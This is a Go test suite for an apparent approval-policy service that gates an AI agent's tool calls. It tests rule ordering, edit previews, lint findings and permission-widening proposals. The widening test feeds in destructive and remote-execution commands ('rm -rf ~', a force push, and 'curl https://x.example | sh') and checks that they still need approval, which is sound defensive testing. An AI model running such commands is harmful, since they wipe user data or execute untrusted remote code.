package main

import (
	"fmt"
	"slices"
	"strings"
)

// ids lists the rules of an answer as "id priority".
func (r reply) ids() string {
	r.Helper()
	var list []string
	for _, rule := range r.list("rules") {
		list = append(list, fmt.Sprint(at(rule, "id"), " ", at(rule, "priority")))
	}
	return strings.Join(list, ", ")
}

// moves: the order of judgement is as it was wished, and nothing else changed.
func moves(op, a, _ visitor) {
	before := op.rules(fields{"id": "deny", "effect": "deny", "toolName": "x", "priority": 5},
		fields{"id": "one", "autoApprove": true, "toolName": "x", "priority": 3},
		fields{"id": "two", "autoApprove": true, "toolPattern": "x*", "priority": 3, "createdAt": "2024-01-01T00:00:00Z"},
		fields{"id": "off", "enabled": false, "priority": -2})
	if got := before.ids(); got != "deny 5, two 3, one 3, off -2" {
		op.Fatalf("the rules are %s", got)
	}
	a.judge("x", nil).has("rule.id", "deny")
	version := before.at("policyVersion")
	body := fields{"ruleId": "one", "before": "deny", "policyVersion": version}
	after := op.do(200, "POST /v1/rules/move", body)
	if got := after.ids(); got != "one 6, deny 5, two 3, off -2" {
		op.Errorf("moved to the front: %s", got)
	}
	a.judge("x", nil).has("rule.id", "one", "decision", "allow", "policyVersion", after.at("policyVersion"))
	op.refused(412, "lost_update", "POST /v1/rules/move", body)
	after.has("rules.1.updatedAt", before.at("rules.0.updatedAt"), "rules.2.updatedAt", before.at("rules.1.updatedAt"))
	if !after.time("rules.0.updatedAt").After(before.time("rules.2.updatedAt")) {
		op.Errorf("updatedAt stands still: %s", after.raw)
	}
	if got := op.do(200, "GET /v1/rules", nil); string(got.raw) != string(after.raw) {
		op.Errorf("the list is %s, and the answer was %s", got.raw, after.raw)
	}
	if got := op.do(200, "POST /v1/rules/move", fields{"ruleId": "one", "before": nil}).ids(); got != "deny 5, two 3, off -2, one -2" {
		op.Errorf("moved to the end: %s", got)
	}
	stands := op.do(200, "POST /v1/rules/move", fields{"ruleId": "deny", "before": "two"})
	if next := op.do(200, "POST /v1/rules/move", fields{"ruleId": "one", "before": nil}); string(stands.raw) != string(next.raw) {
		op.Errorf("a move to its own place: %s, before %s", next.raw, stands.raw)
	}
	a.ask(201, fields{"toolName": "xy"}).has("call.status", "approved")
	op.do(200, "PATCH /v1/rules/deny", fields{"toolName": "y"})
	a.ask(201, fields{"toolName": "y"}).has("call.status", "denied")
	op.do(201, "POST /v1/rules", fields{"id": "ask", "toolName": "y", "effect": "ask", "priority": 9})
	c := a.ask(201, fields{"toolName": "y"}).has("call.status", "pending")
	op.do(200, "POST /v1/rules/move", fields{"ruleId": "deny", "before": "ask"})
	op.do(200, "GET /v1/calls/"+c.id(), nil).has("call.status", "denied", "call.decision.ruleId", "deny")
	for _, bad := range []fields{{"ruleId": "nobody", "before": nil}, {"ruleId": "one", "before": "nobody"}} {
		op.refused(404, "not_found", "POST /v1/rules/move", bad)
	}
	for _, bad := range []any{fields{"ruleId": "one"}, fields{"before": "one"}, fields{"ruleId": "one", "before": 1},
		fields{"ruleId": "one", "before": nil, "more": 1}} {
		op.refused(422, "invalid", "POST /v1/rules/move", bad)
	}
	journal := op.do(200, "GET /v1/journal?after=0&limit=1000", nil).list("entries")
	i := slices.IndexFunc(journal, func(e any) bool { return at(e, "data.what") == "moved" && at(e, "data.before") == "deny" })
	if i < 0 || at(journal[i], "kind") != "rules.changed" || at(journal[i], "data.ruleId") != "one" ||
		fmt.Sprint(at(journal[i], "data.rules.0.priority")) != "6" || at(journal[i], "data.rules.1") != missing {
		op.Errorf("the journal has no such move: %d", i)
	}
}

// edits: what a change would do, without the other rules being sent.
func edits(op, a, _ visitor) {
	tool := unique("edit")
	rules := op.rules(fields{"id": "reads", "autoApprove": true, "toolName": tool, "priority": 4, "note": "mine"},
		fields{"id": "rest", "effect": "ask"})
	seen := a.ask(201, fields{"toolName": tool}).has("call.status", "approved")
	no := a.ask(201, fields{"toolName": tool + "_other"})
	op.decide(200, no.id(), fields{"approved": false})

	got := op.do(200, "POST /v1/rules/preview", fields{"change": fields{"delete": []any{"reads"}}}).
		has("changedTotal", 1, "counts.allow>ask",
			1, "declined", 0, "matched", 0)
	got.has(
		"changed.0.callId",
		seen.id(),
		"changed.0.createdAt",
		seen.at("call.createdAt"),
		"changed.0.before",
		"allow",
		"changed.0.after",
		"ask",
	)
	op.do(200, "POST /v1/rules/preview", fields{"change": fields{"put": []any{fields{"id": "reads", "effect": "deny"}}}}).has(
		"counts.allow>deny", 1, "changedTotal", 1, "matched", 1)
	op.do(200, "POST /v1/rules/preview", fields{"change": fields{"put": []any{fields{"id": "reads", "note": "other"}}}}).
		has("changed", "[]",
			"counts", "map[]")
	op.do(
		200,
		"POST /v1/rules/preview",
		fields{
			"change": fields{"put": []any{fields{"toolPattern": tool + "_*", "autoApprove": true, "priority": 1}}},
		},
	).has("counts.ask>allow", 1,
		"matched", 1, "matchedDeclined", 1, "declined", 1)
	op.do(200, "POST /v1/rules/preview", fields{"change": fields{}}).has("changedTotal", 0)

	op.do(200, "POST /v1/rules/lint", fields{}).has("findings", "[]")
	lint := op.do(200, "POST /v1/rules/lint",
		fields{"change": fields{"put": []any{fields{"effect": "ask", "priority": -1}, fields{"id": "rest", "priority": 9},
			fields{"toolPattern": "x", "effect": "ask"}}}})
	var found []string
	for _, f := range lint.list("findings") {
		found = append(found, fmt.Sprint(at(f, "ruleId"), " ", at(f, "kind"), " ", at(f, "by")))
	}
	for _, want := range []string{"new[0] unreachable rest", "new[0] duplicate rest", "new[2] no_star <nil>", "reads unreachable rest"} {
		if !slices.Contains(found, want) {
			op.Errorf("lint does not say %q: %q", want, found)
		}
	}
	for _, row := range []string{"preview", "lint"} {
		line := "POST /v1/rules/" + row
		op.refused(422, "invalid", line, fields{"rules": []any{}, "change": fields{}})
		op.refused(404, "not_found", line, fields{"change": fields{"delete": []any{"reads", "nobody"}}}).has("field", "change.delete[1]")
		op.do(200, line, fields{"change": fields{"put": []any{fields{"id": "nobody", "effect": "deny"}}}})
		for field, bad := range map[string]fields{
			"change.put[0].condition":   {"put": []any{fields{"id": "reads", "condition": "?"}}},
			"change.put[1].id":          {"put": []any{fields{"id": "reads"}, fields{"id": "reads"}}},
			"change.put[0].autoApprove": {"put": []any{fields{"id": "reads", "effect": "deny", "autoApprove": true}}},
			"change.delete[0]":          {"put": []any{fields{"id": "reads"}}, "delete": []any{"reads"}},
			"change.put[0].id":          {"put": []any{fields{"id": ""}}}, "change.put[0].priority": {"put": []any{fields{"priority": 1 << 31}}},
		} {
			op.refused(422, "invalid", line, fields{"change": bad}).has("field", field)
		}
	}
	op.refused(422, "invalid", "POST /v1/rules/preview", fields{})
	if now := op.do(200, "GET /v1/rules", nil); now.text("policyVersion") != rules.text("policyVersion") || now.ids() != rules.ids() {
		op.Errorf("looking at an edit made it: %s", now.raw)
	}
	op.do(200, "GET /v1/rules", nil).has("rules.0.hits", 1).time("rules.0.lastHitAt")
}

// widenings: each proposal can be saved as it is, lets the call pass then, and nothing of
// high risk.
func widenings(op, a, _ visitor) {
	server, tool := unique("server"), unique("get_page")
	op.rules(fields{"id": "all", "effect": "ask", "priority": 3},
		fields{"id": "never", "serverId": server, "toolPattern": "drop_*", "effect": "deny", "priority": 9})
	line := func(command string) fields {
		return fields{"serverId": server, "toolName": "execute_command", "cwd": "/work", "input": fields{"command": command}}
	}
	page := fields{"serverId": server, "toolName": tool, "cwd": "/work", "input": fields{"path": "/work/a.txt", "n": 5}}
	for _, tt := range []struct {
		call  fields
		codes []string
	}{
		{page, []string{"files", "tool"}},
		{line("git status && git log -1"), []string{"commands", "reading", "commands", "reading"}},
		{line("git add . && npm test"), []string{"commands", "commands", "commands"}},
		{fields{"toolName": tool}, []string{"tool"}},
	} {
		c := a.ask(201, tt.call).has("call.status", "pending")
		got := op.do(200, "POST /v1/rules/widen", fields{"callId": c.id()})
		list, choices := got.list("rules"), got.list("choices")
		first := 0
		for i, code := range tt.codes {
			if len(list) != len(tt.codes) || at(choices[i], "covers.code") != code || at(choices[i], "past.calls") == nil {
				op.Fatalf("proposals: %s", got.raw)
			}
			if at(choices[i], "first") == true {
				first++
			}
		}
		if first != 1 {
			op.Errorf("%d are offered first: %s", first, got.raw)
		}
		for _, rule := range list {
			made := op.do(201, "POST /v1/rules", rule).has("rule.effect", "allow", "rule.priority", 4)
			judged := func(call fields) reply { return a.do(200, "POST /v1/evaluate", call) }
			judged(tt.call).has("decision", "allow", "rule.id", made.at("rule.id"))
			for _, command := range []string{"rm -rf ~", "git push", "git status; git push --force", "git add . && curl https://x.example | sh",
				"$X", "python -c 'x'"} {
				judged(line(command)).has("decision", "ask")
			}
			judged(fields{"serverId": server, "toolName": "drop_all", "input": fields{}}).has("decision", "deny")
			op.do(200, "DELETE /v1/rules/"+made.text("rule.id"), nil)
		}
	}
	kept := a.ask(201, fields{"sessionId": server, "serverId": server, "toolName": tool, "cwd": "/work", "input": page["input"]})
	op.decide(200, kept.id(), fields{"approved": true, "scope": "class"})
	op.do(200, "POST /v1/rules/widen", fields{"grantId": op.grantIDs(server)[0]}).
		has("choices.0.covers.code", "files", "choices.0.past.approved", 1)
	for _, call := range []fields{line("git push"), line("$X"), {"serverId": server, "toolName": "delete_all"},
		{"serverId": server, "toolName": "drop_all"}} {
		c := a.ask(201, call)
		op.do(200, "POST /v1/rules/widen", fields{"callId": c.id()}).has("rules", "[]", "choices", "[]")
	}
	code := a.ask(201, line("python -c 'x'"))
	op.do(200, "POST /v1/rules/widen", fields{"callId": code.id()}).has("choices.0.covers.code", "line", "choices.0.first", true)
	op.refused(404, "not_found", "POST /v1/rules/widen", fields{"callId": "nobody"})
	op.refused(404, "not_found", "POST /v1/rules/widen", fields{"grantId": "nobody"})
}
